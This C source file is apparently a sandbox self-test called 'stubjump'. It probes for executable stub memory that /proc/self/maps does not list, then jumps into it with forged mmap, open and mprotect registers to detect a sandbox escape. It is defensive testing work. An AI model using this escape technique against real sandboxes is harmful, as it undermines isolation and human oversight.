// stubjump: attacks the code that the sandbox keeps in every guest address space. It looks for
// executable memory above the guest's own address space that /proc/self/maps does not own up to,
// then jumps to every offset of it with registers that ask for mmap, open and other calls, each in
// a process that may die of it. A system call that the sandbox saw and answered is no gain; a jump that
// mapped memory behind its back is found by reading what /proc/self/maps does not own.
//
// A jump may end in a wait that only the sandbox ends, so that trying all takes long: the jumps come in
// a shuffled order until SECONDS (default 20) are over, 0 for all.
//
// Prints what became of the attack, "no stub" where there is nothing to attack, "held" where
// nothing was gained; exits 1 after a breach.
//
//	stubjump [SECONDS [FIRST [LAST]]]     hexadecimal bounds of the search
#define _GNU_SOURCE
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FORGED 0x12340000UL /* where a forged mmap would put its page */

static sigjmp_buf out;

static void caught(int sig)
{
	siglongjmp(out, sig);
}

static void catch_all(void)
{
	static char stack[65536];
	stack_t alt = {.ss_sp = stack, .ss_size = sizeof stack};
	struct sigaction a = {.sa_handler = caught, .sa_flags = SA_ONSTACK | SA_NODEFER};
	const int sigs[] = {SIGSEGV, SIGBUS, SIGILL, SIGFPE, SIGTRAP, SIGSYS, SIGALRM};

	sigaltstack(&alt, NULL);
	for (size_t i = 0; i < sizeof sigs / sizeof sigs[0]; i++)
		sigaction(sigs[i], &a, NULL);
}

// readable tells whether a load from p works.
static int readable(uintptr_t p)
{
	if (sigsetjmp(out, 1) != 0)
		return 0;
	(void)*(volatile char *)p;
	return 1;
}

// owned tells whether /proc/self/maps lists p.
static int owned(uintptr_t p)
{
	char line[512];
	FILE *f = fopen("/proc/self/maps", "r");
	uintptr_t a, b;
	int found = 0;

	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%lx-%lx", &a, &b) == 2 && a <= p && p < b)
			found = 1;
	if (f)
		fclose(f);
	return found;
}

// jump enters target with forged registers: a call number and arguments as mmap(2), open(2) and
// others take them, and every other register holding an address of ours.
static void jump(uintptr_t target, long nr)
{
	static char path[] = "/breach";
	static char scratch[8192] __attribute__((aligned(4096)));
	uintptr_t a0 = nr == SYS_mmap ? FORGED : (uintptr_t)path;
	uintptr_t a1 = nr == SYS_mmap ? 4096 : 0102 /* O_CREAT|O_RDWR */;
	register uintptr_t r10 __asm__("r10") = MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS;
	register uintptr_t r8 __asm__("r8") = -1;
	register uintptr_t r9 __asm__("r9") = 0;
	uintptr_t r12 = (uintptr_t)scratch;

	__asm__ volatile("mov %6, %%rbx\n\tmov %6, %%r12\n\tmov %6, %%r13\n\tmov %6, %%r14\n\tmov %6, %%r15\n\tjmp *%0"
			 : : "c"(target), "a"(nr), "D"(a0), "S"(a1), "d"(7L), "r"(r10), "r"(r12), "r"(r8), "r"(r9)
			 : "rbx", "r12", "r13", "r14", "r15", "r11", "memory");
}

#define MAX_PAGES 4096

static uintptr_t pages[MAX_PAGES]; // that are readable and not owned
static long npages;

struct progress {
	volatile long next; // the number of the jump to do next
	volatile long breaches;
	volatile uintptr_t where;
};

// attack does jumps from p->next on until one kills it.
static void attack(struct progress *p, long total)
{
	const long calls[] = {SYS_mmap, SYS_open, SYS_mprotect};
	const struct itimerval tenth = {.it_value.tv_usec = 100000}, never = {0};

	catch_all();
	for (;;) {
		long n = p->next++;
		unsigned long k = (unsigned long)n * 1000003 % total; // a shuffle: total is no multiple of it
		uintptr_t target = pages[k / 3 / 4096] + k / 3 % 4096;

		if (n >= total)
			_exit(0);
		setitimer(ITIMER_REAL, &tenth, NULL);
		if (sigsetjmp(out, 1) == 0)
			jump(target, calls[k % 3]);
		setitimer(ITIMER_REAL, &never, NULL);
		if (readable(FORGED)) {
			if (!owned(FORGED)) {
				p->breaches++;
				p->where = target;
				_exit(1);
			}
			munmap((void *)FORGED, 4096);
		}
	}
}

// reap waits for pid, kills it when it makes no progress for three tenths of a second.
static void reap(pid_t pid, struct progress *p)
{
	struct timespec tick = {.tv_nsec = 1000000};
	long last = p->next;
	int idle = 0;

	while (waitpid(pid, NULL, WNOHANG) == 0) {
		nanosleep(&tick, NULL);
		idle = p->next == last ? idle + 1 : 0;
		last = p->next;
		if (idle == 300)
			kill(pid, SIGKILL);
	}
}

// find fills pages with what is mapped between first and last and not owned.
static void find(uintptr_t first, uintptr_t last)
{
	uintptr_t a = first;

	while (a < last && npages < MAX_PAGES) {
		if (readable(a)) {
			if (!owned(a))
				pages[npages++] = a;
			a += 4096;
		} else {
			a += 65536 - a % 65536; // nothing smaller is mapped alone up there
		}
	}
}

int main(int argc, char **argv)
{
	int seconds = argc > 1 ? atoi(argv[1]) : 20;
	struct progress *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	long deaths = 0, total;
	time_t end;

	catch_all();
	find(argc > 2 ? strtoul(argv[2], NULL, 16) : 0x7ffc00000000, argc > 3 ? strtoul(argv[3], NULL, 16) : 0x7ffffffff000);
	total = npages * 4096 * 3;
	end = time(NULL) + seconds;
	while (p->next < total && !p->breaches && (seconds == 0 || time(NULL) < end)) {
		pid_t pid = fork();

		if (pid < 0) {
			perror("fork");
			return 1;
		}
		if (pid == 0)
			attack(p, total);
		reap(pid, p);
		deaths++;
	}
	fprintf(stderr, "%ld pages from %#lx, %ld of %ld jumps, %ld deaths\n", npages, pages[0], p->next, total, deaths);
	if (p->breaches)
		printf("BREACH by a jump to %#lx\n", p->where);
	puts(p->breaches ? "breached" : npages ? "held" : "no stub");
	return p->breaches != 0;
}
